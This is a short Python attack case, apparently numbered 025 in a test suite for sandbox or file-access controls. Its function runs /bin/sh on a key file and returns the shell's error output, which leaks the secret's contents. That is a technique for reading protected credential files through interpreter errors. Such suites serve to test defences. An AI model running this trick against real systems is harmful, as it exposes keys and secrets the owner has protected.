"""025 files: make the loader read the key as a program's script interpreter line.

Evidence: secret - the key, in the error of an interpreter that was told to run it.
"""


def attack():
    import subprocess

    done = subprocess.run(["/bin/sh", TARGETS["key"]], capture_output=True, text=True)
    return done.stdout + done.stderr
